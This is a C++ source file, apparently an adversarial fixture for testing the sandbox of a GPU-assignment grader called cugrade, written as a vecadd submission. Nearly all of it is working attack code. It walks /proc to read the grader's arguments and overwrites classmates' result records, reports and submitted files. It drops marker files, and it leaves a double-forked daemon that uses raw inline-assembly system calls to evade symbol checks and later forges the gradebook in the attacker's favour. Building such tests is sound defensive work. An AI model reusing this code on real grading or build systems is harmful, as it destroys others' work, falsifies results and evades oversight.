// Attack on classmates (a batch, `cugrade grade`; also `cugrade check --report`): a vecadd
// submission whose own sums are wrong, and which, from inside its runner:
//   1. finds cugrade's command line (/proc of its ancestors): the --out folder, the
//      --submissions folder and every --report target;
//   2. at once overwrites what it finds there: the other students' records (results/*.json),
//      their reports (students/*/report.json), their submitted .cu files, and drops a marker in
//      $HOME and /tmp;
//   3. leaves a double-forked setsid daemon (named cugrade-attackd; raw system calls, so no
//      symbol policy sees the fork) that waits for cugrade to exit, then rewrites the gradebook
//      (itself with full marks, everyone else with 0) and every report target once more.
// Its own sums are right only if it could read a classmate's submission or the --out folder (a
// copied solution, a published grade): a plagiarist's ceiling. harness/tests/ci/attack_suite_test.sh
// grades a class with this student in it and checks that none of it happened (the attacker
// itself scores 0): every classmate's row, record, report and file as without the attacker,
// no marker, no process left. Every write is to a path found in the grader's own command line.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>
#include <dirent.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <time.h>

#include "interface.cuh"

// The whole content of a file ("" when it cannot be read).
[[maybe_unused]] static std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

// The parent of `pid`, from /proc/<pid>/stat (the field after the state).
[[maybe_unused]] static int parentOf(int pid) {
  const std::string stat = slurp("/proc/" + std::to_string(pid) + "/stat");
  const size_t close = stat.rfind(')');
  int ppid = 0;
  char state = 0;
  if (close == std::string::npos || std::sscanf(stat.c_str() + close + 1, " %c %d", &state, &ppid) != 2)
    return 0;
  return ppid;
}

// The nearest ancestor whose argv[0] is the cugrade program, or 0 when none can be seen.
[[maybe_unused]] static int cugradeAncestor() {
  for (int pid = getppid(), hops = 0; pid > 1 && hops < 16; pid = parentOf(pid), ++hops) {
    const std::string raw = slurp("/proc/" + std::to_string(pid) + "/cmdline");
    const std::string argv0 = raw.substr(0, raw.find('\0'));
    const size_t slash = argv0.rfind('/');
    if (argv0.substr(slash == std::string::npos ? 0 : slash + 1) == "cugrade") return pid;
  }
  return 0;
}

// A system call made directly (inline assembly on x86-64), naming no C library function, so no
// symbol policy can see it: only the sandbox stands in its way.
[[maybe_unused]] static long rawSyscall(long number, long a = 0, long b = 0, long c = 0, long d = 0) {
#if defined(__x86_64__)
  long result;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return result;
#else
  return syscall(number, a, b, c, d);
#endif
}

// fork(2) by its system call (a child of a threaded process must then make system calls only).
[[maybe_unused]] static long rawFork() {
#if defined(SYS_fork)
  return rawSyscall(SYS_fork);
#else
  return rawSyscall(SYS_clone, SIGCHLD, 0, 0, 0);
#endif
}

[[maybe_unused]] static void rawSleep(long seconds, long nanoseconds) {
  struct timespec pause = {seconds, nanoseconds};
  rawSyscall(SYS_nanosleep, reinterpret_cast<long>(&pause), 0);
}

// cugrade's arguments, split at their NULs.
static std::vector<std::string> argumentsOf(int pid) {
  std::vector<std::string> argv;
  const std::string raw = slurp("/proc/" + std::to_string(pid) + "/cmdline");
  for (size_t at = 0; at < raw.size(); at = raw.find('\0', at) + 1) {
    argv.push_back(raw.substr(at, raw.find('\0', at) - at));
    if (raw.find('\0', at) == std::string::npos) break;
  }
  return argv;
}

static std::vector<std::string> entries(const std::string& folder) {
  std::vector<std::string> names;
  if (DIR* dir = opendir(folder.c_str())) {
    while (const dirent* entry = readdir(dir))
      if (entry->d_name[0] != '.') names.push_back(folder + "/" + entry->d_name);
    closedir(dir);
  }
  return names;
}

static void overwrite(const std::string& path, const std::string& text) {
  if (FILE* out = std::fopen(path.c_str(), "w")) {
    std::fputs(text.c_str(), out);
    std::fclose(out);
  }
}

// What the daemon writes once cugrade has exited: prepared here, written by raw calls there.
struct Forgery {
  std::string path, text;
};

static void leaveDaemon(int cugrade, const std::vector<Forgery>& forgeries) {
  const long child = rawFork();
  if (child != 0) {
    if (child > 0) rawSyscall(SYS_wait4, child, 0, 0, 0);
    return;
  }
  rawSyscall(SYS_setsid);
  if (rawFork() != 0) rawSyscall(SYS_exit_group, 0);
  rawSyscall(SYS_prctl, PR_SET_NAME, reinterpret_cast<long>("cugrade-attackd"));
  for (int fd = 0; fd < 3; ++fd) rawSyscall(SYS_close, fd);
  for (int tick = 0; tick < 600 && rawSyscall(SYS_kill, cugrade, 0) == 0; ++tick) rawSleep(0, 100000000);
  rawSleep(0, 300000000);  // cugrade has exited: its files are final
  for (const Forgery& forgery : forgeries) {
    const long fd = rawSyscall(SYS_openat, AT_FDCWD, reinterpret_cast<long>(forgery.path.c_str()),
                               O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) continue;
    rawSyscall(SYS_write, fd, reinterpret_cast<long>(forgery.text.data()),
               static_cast<long>(forgery.text.size()));
    rawSyscall(SYS_close, fd);
  }
  rawSyscall(SYS_exit_group, 0);
}

// True when a classmate's file or the grades folder could be read from here.
static bool read_classmates = false;

static void attack() {
  const int cugrade = cugradeAncestor();
  if (cugrade == 0) return;
  const std::vector<std::string> argv = argumentsOf(cugrade);
  char cwd[4096];
  const ssize_t size = readlink(("/proc/" + std::to_string(cugrade) + "/cwd").c_str(), cwd, sizeof cwd - 1);
  const std::string base = size > 0 ? std::string(cwd, size) + "/" : "";
  const auto absolute = [&](const std::string& path) {
    return path.empty() || path[0] == '/' ? path : base + path;
  };
  std::string out, submissions;
  std::vector<std::string> reports;
  for (size_t k = 0; k + 1 < argv.size(); ++k) {
    if (argv[k] == "--out" || argv[k] == "-o") out = absolute(argv[k + 1]);
    if (argv[k] == "--submissions" || argv[k] == "-S") submissions = absolute(argv[k + 1]);
    if (argv[k] == "--report" && argv[k + 1].find('=') != std::string::npos)
      reports.push_back(absolute(argv[k + 1].substr(argv[k + 1].find('=') + 1)));
  }
  std::fprintf(stderr, "attack: out=%s submissions=%s reports=%zu\n", out.c_str(), submissions.c_str(),
               reports.size());
  const std::string forged_record = "{\"forged\": true, \"score\": 0}\n";
  std::vector<Forgery> later;
  if (!out.empty()) {
    for (const std::string& record : entries(out + "/results")) overwrite(record, forged_record);
    for (const std::string& student : entries(out + "/students")) {
      overwrite(student + "/report.json", forged_record);
      later.push_back({student + "/report.json", forged_record});
    }
    later.push_back({out + "/gradebook.csv",
                     "student,score,max_score,vecadd,outcome,gradable,submitted_at,late,note\r\n"
                     "mallory,9,9,9,passed,yes,,no,\r\n"});
  }
  if (!out.empty() && !entries(out).empty()) read_classmates = true;
  if (!submissions.empty())
    for (const std::string& student : entries(submissions))
      for (const std::string& file : entries(student))
        if (file.size() > 3 && file.compare(file.size() - 3, 3, ".cu") == 0 &&
            file.find("mallory") == std::string::npos) {
          if (!slurp(file).empty()) read_classmates = true;
          overwrite(file, "#error forged by a classmate\n");
        }
  for (const std::string& report : reports) {
    overwrite(report, forged_record);
    later.push_back({report, forged_record});
  }
  if (const char* home = std::getenv("HOME"))
    overwrite(std::string(home) + "/cugrade-attack-was-here", "x\n");
  overwrite("/tmp/cugrade-attack-was-here", "x\n");
  leaveDaemon(cugrade, later);
}

void vecAdd(const float* h_A, const float* h_B, float* h_C, int n) {
  static bool first_call = true;
  if (first_call) {
    first_call = false;
    attack();
  }
  for (int i = 0; i < n; ++i) h_C[i] = read_classmates ? h_A[i] + h_B[i] : 0.0f;
}
